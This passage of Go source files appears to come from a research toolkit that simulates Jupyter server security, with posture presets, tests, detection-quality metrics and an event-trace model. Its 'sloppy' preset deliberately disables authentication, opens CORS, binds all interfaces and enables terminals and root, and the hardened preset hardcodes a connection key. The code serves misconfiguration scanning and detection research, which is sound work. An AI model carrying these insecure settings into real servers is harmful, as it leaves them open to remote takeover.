		t.Fatalf("login: %v", err)
	}
	if _, err := c.Status(); err != nil {
		t.Fatalf("status with cookie: %v", err)
	}
}

func TestSloppyConfigIsOpen(t *testing.T) {
	_, c, _ := startTestServer(t, SloppyConfig())
	c.Token = ""
	if _, err := c.Status(); err != nil {
		t.Fatalf("open server should not require auth: %v", err)
	}
	if _, err := c.NewTerminal(); err != nil {
		t.Fatalf("open server should allow terminals: %v", err)
	}
}

func TestSessionsAPI(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("tok"))
	// Create a session via raw JSON through the contents of the API.
	var out struct {
		ID       string `json:"id"`
		KernelID string `json:"kernel_id"`
	}
	err := cDo(c, "POST", "/api/sessions", map[string]any{
		"path": "nb/analysis.ipynb", "name": "analysis", "type": "notebook",
		"kernel": map[string]string{"name": "minilang"},
	}, &out)
	if err != nil {
		t.Fatalf("create session: %v", err)
	}
	if out.KernelID == "" {
		t.Fatal("no kernel id")
	}
	kernels, err := c.ListKernels()
	if err != nil || len(kernels) != 1 {
		t.Fatalf("kernels = %v err=%v", kernels, err)
	}
	if err := cDo(c, "DELETE", "/api/sessions/"+out.ID, nil, nil); err != nil {
		t.Fatalf("delete session: %v", err)
	}
	kernels, _ = c.ListKernels()
	if len(kernels) != 0 {
		t.Fatalf("kernel should be shut down with session, got %v", kernels)
	}
}

// cDo exposes the client's private do for session tests via a tiny
// local mirror (keeps client API surface focused).
func cDo(c *client.Client, method, path string, body, out any) error {
	return client.Do(c, method, path, body, out)
}
