package posture

import (
	"encoding/json"
	"reflect"
	"testing"
)

// TestPresetDeterminism pins that resolving the same preset twice
// yields identical configurations — the property fleet generation and
// checkpoint signatures rely on.
func TestPresetDeterminism(t *testing.T) {
	for _, name := range []string{"hardened", "sloppy"} {
		a, ok := Preset(name, "tok-a")
		if !ok {
			t.Fatalf("preset %q not found", name)
		}
		b, ok := Preset(name, "tok-a")
		if !ok {
			t.Fatalf("preset %q not found on second resolve", name)
		}
		if !reflect.DeepEqual(a, b) {
			t.Errorf("preset %q not deterministic:\n%+v\nvs\n%+v", name, a, b)
		}
	}
	if _, ok := Preset("bogus", "tok"); ok {
		t.Error("unknown preset resolved")
	}
}

// TestPresetPostures pins the security-relevant knob values of the two
// archetypes: hardened must close what sloppy opens.
func TestPresetPostures(t *testing.T) {
	h, _ := Preset("hardened", "secret-token")
	s, _ := Preset("sloppy", "ignored")

	if h.BindAddress != "127.0.0.1" || s.BindAddress != "0.0.0.0" {
		t.Errorf("bind addresses: hardened %q, sloppy %q", h.BindAddress, s.BindAddress)
	}
	if !h.TLSEnabled || s.TLSEnabled {
		t.Error("TLS posture inverted")
	}
	if h.Auth.DisableAuth || !s.Auth.DisableAuth {
		t.Error("auth posture inverted")
	}
	if h.Auth.Token != "secret-token" {
		t.Errorf("hardened preset dropped the token: %q", h.Auth.Token)
	}
	if h.AllowOrigin != "" || s.AllowOrigin != "*" {
		t.Errorf("CORS posture: hardened %q, sloppy %q", h.AllowOrigin, s.AllowOrigin)
	}
	for _, knob := range []struct {
		name             string
		hardened, sloppy bool
	}{
		{"EnableTerminals", h.EnableTerminals, s.EnableTerminals},
		{"AllowRoot", h.AllowRoot, s.AllowRoot},
		{"ShellInKernel", h.ShellInKernel, s.ShellInKernel},
	} {
		if knob.hardened || !knob.sloppy {
			t.Errorf("%s: hardened=%v sloppy=%v, want false/true", knob.name, knob.hardened, knob.sloppy)
		}
	}
	if h.ConnectionKey == "" || s.ConnectionKey != "" {
		t.Error("connection-key posture inverted")
	}
	if h.ContentQuota == 0 {
		t.Error("hardened preset carries no content quota (would not audit clean)")
	}
	if !h.ScanNotebooks || s.ScanNotebooks {
		t.Error("notebook-scanning posture inverted")
	}
}

// TestConfigKnobRoundTrip marshals every knob through JSON and back —
// the path fleet checkpoints persist target knobs over — and demands
// nothing is lost or defaulted away.
func TestConfigKnobRoundTrip(t *testing.T) {
	for _, name := range []string{"hardened", "sloppy"} {
		cfg, _ := Preset(name, "round-trip-token")
		// Exercise the non-preset knobs too.
		cfg.Port = 8888
		cfg.BaseURL = "/jupyter"
		cfg.KernelLimits = Limits{MaxSteps: 1000, MaxOutputBytes: 4096}

		data, err := json.Marshal(cfg)
		if err != nil {
			t.Fatalf("%s: marshal: %v", name, err)
		}
		var back Config
		if err := json.Unmarshal(data, &back); err != nil {
			t.Fatalf("%s: unmarshal: %v", name, err)
		}
		if !reflect.DeepEqual(cfg, back) {
			t.Errorf("%s: config knob round-trip lost data:\n%+v\nvs\n%+v", name, cfg, back)
		}
	}
}
