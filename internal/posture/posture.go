// Package posture defines the security-posture configuration of a
// simulated Jupyter server. It is the leaf the whole assessment stack
// shares: the server materializes a Config into running behavior, the
// misconfiguration scanner audits one statically, the crypto auditor
// derives the primitive inventory from one, and the fleet generator
// samples the taxonomy's knob space over one.
//
// The server package aliases these types (server.Config = posture.
// Config), so call sites may use either name; scanner suites import
// this package directly and stay decoupled from the server runtime.
package posture

import "repro/internal/auth"

// Config is the full server configuration.
type Config struct {
	// Network posture.
	BindAddress string // "127.0.0.1" hardened, "0.0.0.0" exposed
	Port        int    // 0 = ephemeral
	TLSEnabled  bool   // simulated flag; audited, not enforced
	BaseURL     string

	// Auth posture.
	Auth auth.Config

	// CORS / framing posture.
	AllowOrigin string // "" = same-origin only; "*" is the misconfig

	// Capability posture.
	EnableTerminals bool
	AllowRoot       bool
	ShellInKernel   bool // permit shell() builtin inside kernels
	// ScanNotebooks statically analyzes every notebook written through
	// the contents API and surfaces findings as trace events, so
	// trojan notebooks are flagged on arrival.
	ScanNotebooks bool

	// Kernel limits and signing.
	KernelLimits  Limits
	ConnectionKey string

	// KernelEngine selects the minilang execution engine for kernels:
	// "vm" (bytecode, the default when empty) or "tree" (the reference
	// tree-walking interpreter). Both are observably equivalent; tree
	// is the differential-testing oracle and a fallback knob.
	KernelEngine string

	// Quota for the content filesystem (bytes, 0 = unlimited).
	ContentQuota int64
}

// Limits bounds kernel execution without exporting the interpreter's
// limit type.
type Limits struct {
	MaxSteps       int
	MaxOutputBytes int
}

// Hardened returns the secure-by-default configuration the paper's
// hardening discussion recommends.
func Hardened(token string) Config {
	return Config{
		BindAddress:     "127.0.0.1",
		TLSEnabled:      true,
		Auth:            auth.DefaultConfig(token),
		AllowOrigin:     "",
		EnableTerminals: false,
		AllowRoot:       false,
		ShellInKernel:   false,
		ScanNotebooks:   true,
		ConnectionKey:   "k3rn3l-c0nn3ct10n-k3y-0123456789abcdef",
	}
}

// Sloppy returns the exposed configuration seen on internet-scanned
// Jupyter instances: every knob wrong at once.
func Sloppy() Config {
	return Config{
		BindAddress:     "0.0.0.0",
		TLSEnabled:      false,
		Auth:            auth.Config{DisableAuth: true, AllowTokenInURL: true},
		AllowOrigin:     "*",
		EnableTerminals: true,
		AllowRoot:       true,
		ShellInKernel:   true,
		ConnectionKey:   "",
	}
}

// Preset resolves a named baseline configuration ("hardened" or
// "sloppy"), so the scanner CLI and the fleet generator share one
// preset registry. The hardened preset carries a content quota so a
// fully hardened server audits clean.
func Preset(name, token string) (Config, bool) {
	switch name {
	case "hardened":
		cfg := Hardened(token)
		cfg.ContentQuota = 10 << 30
		return cfg, true
	case "sloppy":
		return Sloppy(), true
	}
	return Config{}, false
}
