// Package metrics provides the measurement helpers the benchmark
// harness uses: counters, simple histograms with quantiles, throughput
// meters, and the precision/recall scorer for detection-quality
// experiments.
package metrics

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is an atomic event counter.
type Counter struct{ v atomic.Int64 }

// Inc adds 1.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n int64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() int64 { return c.v.Load() }

// Gauge is an atomic instantaneous value (e.g. in-flight workers).
type Gauge struct{ v atomic.Int64 }

// Set stores the value.
func (g *Gauge) Set(n int64) { g.v.Store(n) }

// Add adjusts the value by n (negative to decrement) and returns the
// new value.
func (g *Gauge) Add(n int64) int64 { return g.v.Add(n) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Max raises the gauge to n when n exceeds the current value — an
// atomic high-water mark safe against concurrent recorders.
func (g *Gauge) Max(n int64) {
	for {
		cur := g.v.Load()
		if n <= cur || g.v.CompareAndSwap(cur, n) {
			return
		}
	}
}

// Histogram collects observations and reports quantiles. It keeps all
// samples (bounded by Cap) — fine for benchmark-scale data.
type Histogram struct {
	mu      sync.Mutex
	samples []float64
	Cap     int
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	h.mu.Lock()
	defer h.mu.Unlock()
	cap := h.Cap
	if cap == 0 {
		cap = 1 << 20
	}
	if len(h.samples) < cap {
		h.samples = append(h.samples, v)
	}
}

// Count returns the number of samples.
func (h *Histogram) Count() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.samples)
}

// Quantile returns the q-quantile (0..1) of observed samples.
func (h *Histogram) Quantile(q float64) float64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.samples) == 0 {
		return 0
	}
	sorted := append([]float64(nil), h.samples...)
	sort.Float64s(sorted)
	idx := int(q * float64(len(sorted)-1))
	return sorted[idx]
}

// Max returns the largest observed sample, 0 when empty.
func (h *Histogram) Max() float64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	var max float64
	for _, s := range h.samples {
		if s > max {
			max = s
		}
	}
	return max
}

// Mean returns the sample mean.
func (h *Histogram) Mean() float64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.samples) == 0 {
		return 0
	}
	var sum float64
	for _, s := range h.samples {
		sum += s
	}
	return sum / float64(len(h.samples))
}

// Throughput measures events per wall second.
type Throughput struct {
	start time.Time
	n     atomic.Int64
}

// NewThroughput starts a meter.
func NewThroughput() *Throughput { return &Throughput{start: time.Now()} }

// Tick counts one event.
func (t *Throughput) Tick() { t.n.Add(1) }

// Rate returns events/second since start.
func (t *Throughput) Rate() float64 {
	el := time.Since(t.start).Seconds()
	if el <= 0 {
		return 0
	}
	return float64(t.n.Load()) / el
}

// ---- Detection quality ----

// Confusion is a per-class confusion count for actor-level detection.
type Confusion struct {
	TP, FP, FN int
}

// Precision returns TP/(TP+FP), 1 when nothing was predicted.
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Recall returns TP/(TP+FN), 1 when nothing was expected.
func (c Confusion) Recall() float64 {
	if c.TP+c.FN == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// F1 returns the harmonic mean of precision and recall.
func (c Confusion) F1() float64 {
	p, r := c.Precision(), c.Recall()
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// Score compares detected (actor -> set of classes flagged) against
// ground truth (actor -> class), producing per-class confusion counts.
// Benign actors flagged with any class count as FP for that class.
func Score(truth map[string]string, detected map[string]map[string]bool) map[string]Confusion {
	out := map[string]Confusion{}
	for actor, class := range truth {
		c := out[class]
		if detected[actor][class] {
			c.TP++
		} else {
			c.FN++
		}
		out[class] = c
	}
	for actor, classes := range detected {
		truthClass, isMalicious := truth[actor]
		for class := range classes {
			if !isMalicious || truthClass != class {
				c := out[class]
				c.FP++
				out[class] = c
			}
		}
	}
	return out
}

// RenderScores prints a per-class precision/recall table.
func RenderScores(scores map[string]Confusion) string {
	classes := make([]string, 0, len(scores))
	for c := range scores {
		classes = append(classes, c)
	}
	sort.Strings(classes)
	var b strings.Builder
	fmt.Fprintf(&b, "%-28s %4s %4s %4s %9s %7s %6s\n", "CLASS", "TP", "FP", "FN", "PRECISION", "RECALL", "F1")
	for _, c := range classes {
		s := scores[c]
		fmt.Fprintf(&b, "%-28s %4d %4d %4d %9.2f %7.2f %6.2f\n",
			c, s.TP, s.FP, s.FN, s.Precision(), s.Recall(), s.F1())
	}
	return b.String()
}

// OverheadResult reports a with/without comparison.
type OverheadResult struct {
	BaselineNsPerOp float64
	LoadedNsPerOp   float64
}

// OverheadPct returns the relative slowdown in percent.
func (o OverheadResult) OverheadPct() float64 {
	if o.BaselineNsPerOp <= 0 {
		return 0
	}
	return 100 * (o.LoadedNsPerOp - o.BaselineNsPerOp) / o.BaselineNsPerOp
}
