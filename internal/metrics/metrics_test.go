package metrics

import (
	"strings"
	"sync"
	"testing"
)

func TestCounter(t *testing.T) {
	var c Counter
	var wg sync.WaitGroup
	for i := 0; i < 10; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				c.Inc()
			}
		}()
	}
	wg.Wait()
	c.Add(5)
	if c.Value() != 1005 {
		t.Fatalf("value = %d", c.Value())
	}
}

func TestGauge(t *testing.T) {
	var g Gauge
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				g.Add(1)
				g.Add(-1)
			}
		}()
	}
	wg.Wait()
	if g.Value() != 0 {
		t.Fatalf("balanced add/dec value = %d", g.Value())
	}
	g.Set(7)
	if n := g.Add(3); n != 10 || g.Value() != 10 {
		t.Fatalf("add returned %d, value %d", n, g.Value())
	}
}

func TestGaugeMax(t *testing.T) {
	var g Gauge
	var wg sync.WaitGroup
	for i := 1; i <= 64; i++ {
		wg.Add(1)
		go func(n int64) {
			defer wg.Done()
			g.Max(n)
		}(int64(i))
	}
	wg.Wait()
	if g.Value() != 64 {
		t.Fatalf("high-water mark = %d, want 64", g.Value())
	}
	g.Max(10)
	if g.Value() != 64 {
		t.Fatal("Max lowered the gauge")
	}
}

func TestHistogramMax(t *testing.T) {
	var h Histogram
	if h.Max() != 0 {
		t.Fatal("empty max nonzero")
	}
	for _, v := range []float64{3, 9, 1, 7} {
		h.Observe(v)
	}
	if h.Max() != 9 {
		t.Fatalf("max = %f", h.Max())
	}
}

func TestHistogramQuantiles(t *testing.T) {
	var h Histogram
	for i := 1; i <= 100; i++ {
		h.Observe(float64(i))
	}
	if h.Count() != 100 {
		t.Fatalf("count = %d", h.Count())
	}
	if q := h.Quantile(0.5); q < 49 || q > 52 {
		t.Fatalf("p50 = %f", q)
	}
	if q := h.Quantile(0.99); q < 98 {
		t.Fatalf("p99 = %f", q)
	}
	if m := h.Mean(); m < 50 || m > 51 {
		t.Fatalf("mean = %f", m)
	}
}

func TestHistogramEmpty(t *testing.T) {
	var h Histogram
	if h.Quantile(0.5) != 0 || h.Mean() != 0 {
		t.Fatal("empty histogram nonzero")
	}
}

func TestHistogramCap(t *testing.T) {
	h := Histogram{Cap: 10}
	for i := 0; i < 100; i++ {
		h.Observe(1)
	}
	if h.Count() != 10 {
		t.Fatalf("count = %d", h.Count())
	}
}

func TestConfusionMetrics(t *testing.T) {
	c := Confusion{TP: 8, FP: 2, FN: 2}
	if p := c.Precision(); p != 0.8 {
		t.Fatalf("precision = %f", p)
	}
	if r := c.Recall(); r != 0.8 {
		t.Fatalf("recall = %f", r)
	}
	if f := c.F1(); f < 0.79 || f > 0.81 {
		t.Fatalf("f1 = %f", f)
	}
	empty := Confusion{}
	if empty.Precision() != 1 || empty.Recall() != 1 || empty.F1() != 1 {
		t.Fatal("empty confusion should be perfect")
	}
}

func TestScore(t *testing.T) {
	truth := map[string]string{
		"mallory": "ransomware",
		"eve":     "data_exfiltration",
		"trent":   "cryptomining",
	}
	detected := map[string]map[string]bool{
		"mallory": {"ransomware": true},   // TP
		"eve":     {"cryptomining": true}, // FP (wrong class) + FN for exfil
		"alice":   {"ransomware": true},   // FP (benign flagged)
	}
	scores := Score(truth, detected)
	rw := scores["ransomware"]
	if rw.TP != 1 || rw.FP != 1 || rw.FN != 0 {
		t.Fatalf("ransomware = %+v", rw)
	}
	ex := scores["data_exfiltration"]
	if ex.FN != 1 || ex.TP != 0 {
		t.Fatalf("exfil = %+v", ex)
	}
	cm := scores["cryptomining"]
	if cm.FP != 1 || cm.FN != 1 {
		t.Fatalf("mining = %+v", cm)
	}
}

func TestRenderScores(t *testing.T) {
	text := RenderScores(map[string]Confusion{"ransomware": {TP: 1}})
	if !strings.Contains(text, "ransomware") || !strings.Contains(text, "PRECISION") {
		t.Fatalf("render = %q", text)
	}
}

func TestOverhead(t *testing.T) {
	o := OverheadResult{BaselineNsPerOp: 100, LoadedNsPerOp: 125}
	if pct := o.OverheadPct(); pct != 25 {
		t.Fatalf("overhead = %f", pct)
	}
	if (OverheadResult{}).OverheadPct() != 0 {
		t.Fatal("zero baseline")
	}
}

func TestThroughput(t *testing.T) {
	th := NewThroughput()
	for i := 0; i < 1000; i++ {
		th.Tick()
	}
	if th.Rate() <= 0 {
		t.Fatal("rate not positive")
	}
}
