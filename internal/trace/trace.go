// Package trace defines the unified security-event model shared by the
// server, the network monitor, the kernel auditor, and the detection
// engine: one Event type with a kind tag and kind-specific fields,
// JSONL codecs, a fan-out Bus, and bounded ring buffers.
//
// Everything the paper's tooling observes — HTTP requests, WebSocket
// frames, Jupyter protocol messages, kernel executions, file and
// network operations, auth decisions — is normalized into this model
// so detectors compose across layers.
package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"
)

// Kind tags an event with its layer of origin.
type Kind string

// Event kinds, ordered roughly by protocol depth.
const (
	KindConn    Kind = "conn"     // TCP connection open/close
	KindHTTP    Kind = "http"     // one HTTP request/response
	KindWSFrame Kind = "ws_frame" // one WebSocket frame
	KindKernMsg Kind = "kern_msg" // one Jupyter protocol message
	KindExec    Kind = "exec"     // kernel executed a code unit
	KindFileOp  Kind = "file_op"  // content filesystem operation
	KindNetOp   Kind = "net_op"   // outbound network operation from kernel
	KindAuth    Kind = "auth"     // authentication decision
	KindTermCmd Kind = "term_cmd" // terminal command
	KindAlert   Kind = "alert"    // detector-produced alert
	KindSysRes  Kind = "sys_res"  // resource usage sample
	// KindScanFinding is a scanner-suite finding projected onto the
	// event model, so census sweeps feed the same rules pipeline as
	// live monitoring (see the scan package).
	KindScanFinding Kind = "scan_finding"
)

// knownKinds lists every kind this build defines, in declaration
// order. Kind is an open string type — stored events with foreign
// kinds still decode and match — but CLI filters validate against
// this set so a typo fails loudly instead of matching nothing.
var knownKinds = []Kind{
	KindConn, KindHTTP, KindWSFrame, KindKernMsg, KindExec, KindFileOp,
	KindNetOp, KindAuth, KindTermCmd, KindAlert, KindSysRes, KindScanFinding,
}

// KnownKinds returns every kind this build defines.
func KnownKinds() []Kind {
	return append([]Kind(nil), knownKinds...)
}

// KnownKind reports whether k is one of the defined kinds.
func KnownKind(k Kind) bool {
	for _, kk := range knownKinds {
		if k == kk {
			return true
		}
	}
	return false
}

// Event is one observed occurrence. Only fields relevant to the Kind
// are populated; Fields carries free-form extras.
type Event struct {
	Seq  uint64    `json:"seq"`
	Time time.Time `json:"time"`
	Kind Kind      `json:"kind"`

	// Endpoint identity.
	SrcIP   string `json:"src_ip,omitempty"`
	SrcPort int    `json:"src_port,omitempty"`
	DstIP   string `json:"dst_ip,omitempty"`
	DstPort int    `json:"dst_port,omitempty"`
	User    string `json:"user,omitempty"`
	Session string `json:"session,omitempty"`

	// HTTP layer.
	Method string `json:"method,omitempty"`
	Path   string `json:"path,omitempty"`
	Status int    `json:"status,omitempty"`

	// WS / kernel message layer.
	WSOpcode string `json:"ws_opcode,omitempty"`
	MsgType  string `json:"msg_type,omitempty"`
	Channel  string `json:"channel,omitempty"`
	KernelID string `json:"kernel_id,omitempty"`

	// Exec / file / net layer.
	Code      string  `json:"code,omitempty"`
	Op        string  `json:"op,omitempty"`
	Target    string  `json:"target,omitempty"`
	Bytes     int64   `json:"bytes,omitempty"`
	Entropy   float64 `json:"entropy,omitempty"`
	Success   bool    `json:"success"`
	Detail    string  `json:"detail,omitempty"`
	CPUMillis int64   `json:"cpu_millis,omitempty"`

	Fields map[string]string `json:"fields,omitempty"`
}

// Clone returns a deep copy of the event.
func (e Event) Clone() Event {
	out := e
	if e.Fields != nil {
		out.Fields = make(map[string]string, len(e.Fields))
		for k, v := range e.Fields {
			out.Fields[k] = v
		}
	}
	return out
}

// Field returns a free-form field value or "".
func (e Event) Field(key string) string {
	if e.Fields == nil {
		return ""
	}
	return e.Fields[key]
}

// WithField returns a copy with the field set.
func (e Event) WithField(key, value string) Event {
	out := e.Clone()
	if out.Fields == nil {
		out.Fields = map[string]string{}
	}
	out.Fields[key] = value
	return out
}

// String renders a short human-readable form, used by CLI tools.
func (e Event) String() string {
	switch e.Kind {
	case KindHTTP:
		return fmt.Sprintf("[%s] http %s %s -> %d (%s)", e.Time.Format(time.TimeOnly), e.Method, e.Path, e.Status, e.SrcIP)
	case KindExec:
		code := e.Code
		if len(code) > 48 {
			code = code[:48] + "…"
		}
		return fmt.Sprintf("[%s] exec kernel=%s user=%s %q", e.Time.Format(time.TimeOnly), e.KernelID, e.User, code)
	case KindAlert:
		return fmt.Sprintf("[%s] ALERT %s: %s", e.Time.Format(time.TimeOnly), e.Field("rule"), e.Detail)
	default:
		return fmt.Sprintf("[%s] %s op=%s target=%s bytes=%d src=%s", e.Time.Format(time.TimeOnly), e.Kind, e.Op, e.Target, e.Bytes, e.SrcIP)
	}
}

// Clock abstracts time for deterministic tests.
type Clock interface {
	Now() time.Time
}

// RealClock uses the wall clock.
type RealClock struct{}

// Now returns time.Now().
func (RealClock) Now() time.Time { return time.Now() }

// FakeClock is a manually advanced clock for tests and simulations.
type FakeClock struct {
	mu sync.Mutex
	t  time.Time
}

// NewFakeClock starts a fake clock at t.
func NewFakeClock(t time.Time) *FakeClock { return &FakeClock{t: t} }

// Now returns the current fake time.
func (c *FakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

// Advance moves the clock forward by d and returns the new time.
func (c *FakeClock) Advance(d time.Duration) time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
	return c.t
}

// Set jumps the clock to t.
func (c *FakeClock) Set(t time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = t
}

// Sink consumes events.
type Sink interface {
	Emit(Event)
}

// SinkFunc adapts a function to the Sink interface.
type SinkFunc func(Event)

// Emit calls f(e).
func (f SinkFunc) Emit(e Event) { f(e) }

// Discard drops all events.
var Discard Sink = SinkFunc(func(Event) {})

// Tee fans one Emit out to several sinks, synchronously and in order
// — the lightweight sibling of Bus for pipeline slots that need "the
// engine AND the store" without sequence stamping or subscription.
// Nil sinks are skipped at construction; a single survivor is
// returned unwrapped.
func Tee(sinks ...Sink) Sink {
	kept := make([]Sink, 0, len(sinks))
	for _, s := range sinks {
		if s != nil {
			kept = append(kept, s)
		}
	}
	switch len(kept) {
	case 0:
		return Discard
	case 1:
		return kept[0]
	}
	return SinkFunc(func(e Event) {
		for _, s := range kept {
			s.Emit(e)
		}
	})
}

// Bus is a thread-safe fan-out of events to subscriber sinks, with a
// monotonically increasing sequence stamp.
//
// The hot path is allocation- and lock-free: sequence numbers are
// stamped with an atomic counter and the subscriber list is a
// copy-on-write snapshot replaced only by Subscribe, so concurrent
// emitters never contend with each other.
type Bus struct {
	mu    sync.Mutex // serializes Subscribe (copy-on-write writers)
	seq   atomic.Uint64
	sinks atomic.Pointer[[]Sink]
	clock Clock
}

// NewBus returns a Bus stamping events with the given clock (RealClock
// if nil).
func NewBus(clock Clock) *Bus {
	if clock == nil {
		clock = RealClock{}
	}
	return &Bus{clock: clock}
}

// Subscribe attaches a sink. Sinks are invoked synchronously in
// subscription order on the emitting goroutine.
func (b *Bus) Subscribe(s Sink) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var cur []Sink
	if p := b.sinks.Load(); p != nil {
		cur = *p
	}
	next := make([]Sink, len(cur)+1)
	copy(next, cur)
	next[len(cur)] = s
	b.sinks.Store(&next)
}

// Emit stamps and delivers the event to all sinks.
func (b *Bus) Emit(e Event) {
	e.Seq = b.seq.Add(1)
	if e.Time.IsZero() {
		e.Time = b.clock.Now()
	}
	p := b.sinks.Load()
	if p == nil {
		return
	}
	for _, s := range *p {
		s.Emit(e)
	}
}

// Seq returns the last assigned sequence number.
func (b *Bus) Seq() uint64 {
	return b.seq.Load()
}

// Ring is a bounded ring buffer of events; the oldest events are
// evicted when full. It implements Sink.
type Ring struct {
	mu    sync.Mutex
	buf   []Event
	next  int
	full  bool
	total uint64
}

// NewRing returns a ring holding up to n events.
func NewRing(n int) *Ring {
	if n <= 0 {
		n = 1024
	}
	return &Ring{buf: make([]Event, n)}
}

// Emit appends the event, evicting the oldest when full.
func (r *Ring) Emit(e Event) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.buf[r.next] = e
	r.next = (r.next + 1) % len(r.buf)
	if r.next == 0 {
		r.full = true
	}
	r.total++
}

// Len returns the number of buffered events.
func (r *Ring) Len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.full {
		return len(r.buf)
	}
	return r.next
}

// Total returns the count of all events ever emitted.
func (r *Ring) Total() uint64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.total
}

// Snapshot returns the buffered events oldest-first.
func (r *Ring) Snapshot() []Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	if !r.full {
		out := make([]Event, r.next)
		copy(out, r.buf[:r.next])
		return out
	}
	out := make([]Event, 0, len(r.buf))
	out = append(out, r.buf[r.next:]...)
	out = append(out, r.buf[:r.next]...)
	return out
}

// Filter returns buffered events matching the predicate, oldest-first.
func (r *Ring) Filter(pred func(Event) bool) []Event {
	var out []Event
	for _, e := range r.Snapshot() {
		if pred(e) {
			out = append(out, e)
		}
	}
	return out
}

// JSONLWriter serializes events as JSON lines. It implements Sink.
type JSONLWriter struct {
	mu  sync.Mutex
	w   *bufio.Writer
	err error
}

// NewJSONLWriter wraps w.
func NewJSONLWriter(w io.Writer) *JSONLWriter {
	return &JSONLWriter{w: bufio.NewWriter(w)}
}

// Emit writes one JSON line; the first write error is sticky.
func (jw *JSONLWriter) Emit(e Event) {
	jw.mu.Lock()
	defer jw.mu.Unlock()
	if jw.err != nil {
		return
	}
	b, err := json.Marshal(e)
	if err != nil {
		jw.err = err
		return
	}
	if _, err := jw.w.Write(append(b, '\n')); err != nil {
		jw.err = err
	}
}

// Flush flushes buffered output and returns any sticky error.
func (jw *JSONLWriter) Flush() error {
	jw.mu.Lock()
	defer jw.mu.Unlock()
	if err := jw.w.Flush(); err != nil && jw.err == nil {
		jw.err = err
	}
	return jw.err
}

// Err returns the first encode or write error the writer hit, or nil.
// Emit is a fire-and-forget Sink method, so callers that care about
// durability must check Err (or Flush, which also returns it) before
// treating the output as complete.
func (jw *JSONLWriter) Err() error {
	jw.mu.Lock()
	defer jw.mu.Unlock()
	return jw.err
}

// Decoder reads a JSONL event stream one event at a time, so a replay
// can process arbitrarily long traces without buffering them.
type Decoder struct {
	sc   *bufio.Scanner
	line int
}

// NewDecoder wraps r. Lines up to 16 MiB are accepted, matching what
// JSONLWriter can produce for a maximally stuffed event.
func NewDecoder(r io.Reader) *Decoder {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 16<<20)
	return &Decoder{sc: sc}
}

// Next returns the next event. It returns io.EOF at end of stream and
// a line-numbered parse error on malformed input; blank lines are
// skipped.
func (d *Decoder) Next() (Event, error) {
	for d.sc.Scan() {
		d.line++
		line := d.sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var e Event
		if err := json.Unmarshal(line, &e); err != nil {
			return Event{}, fmt.Errorf("trace: line %d: %w", d.line, err)
		}
		return e, nil
	}
	if err := d.sc.Err(); err != nil {
		return Event{}, err
	}
	return Event{}, io.EOF
}

// ReadJSONL parses a JSONL stream of events into memory. It is a thin
// wrapper over Decoder; streaming consumers should use Decoder
// directly.
func ReadJSONL(r io.Reader) ([]Event, error) {
	var out []Event
	d := NewDecoder(r)
	for {
		e, err := d.Next()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, e)
	}
}

// CountByKind tallies events by kind.
func CountByKind(events []Event) map[Kind]int {
	m := map[Kind]int{}
	for _, e := range events {
		m[e.Kind]++
	}
	return m
}
