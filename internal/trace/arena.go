package trace

// Arena batches the small string allocations a binary decode performs
// into large chunks, so replaying a segment costs O(chunks) heap
// allocations instead of O(events × string fields). Decoders copy each
// inline string's bytes into the current chunk and hand out a
// zero-copy string header over them (see bytesToString).
//
// Safety model — why an arena string can never dangle: the arena is
// append-only. String always writes after the chunk's high-water mark
// and nothing ever rewinds it, so bytes underneath a returned string
// header are immutable for the life of the chunk, and the header
// itself keeps the chunk alive through the garbage collector. A
// consumer that retains an arena string past the replay batch
// callback therefore reads valid, stable bytes forever — the cost is
// pinning that string's whole chunk (up to arenaChunkSize) instead of
// just the string, which is why the replay borrow contract still says
// "copy what you keep" (see DESIGN.md "Replay memory model").
//
// An Arena is not safe for concurrent use; evstore gives each decoded
// segment its own and recycles it through the replay free-list, where
// channel hand-off provides the needed happens-before edges.
type Arena struct {
	cur []byte // current chunk; len is the immutable high-water mark

	// Stats since construction (monotonic; Reset does not clear them).
	strings int // strings handed out
	bytes   int // string bytes copied in
	chunks  int // chunks allocated
}

// arenaChunkSize is the default chunk allocation. 64KB amortizes one
// heap allocation over thousands of typical event strings while
// keeping the worst-case pin from a single retained string small.
const arenaChunkSize = 64 << 10

// String copies b into the arena and returns a string over the copy
// without a per-string heap allocation. The result is valid forever
// (see the safety model above); b itself may be reused immediately.
func (a *Arena) String(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	if cap(a.cur)-len(a.cur) < len(b) {
		size := arenaChunkSize
		if len(b) > size {
			// Oversized value: give it a dedicated exact-size chunk so
			// it cannot strand most of a fresh standard chunk.
			size = len(b)
		}
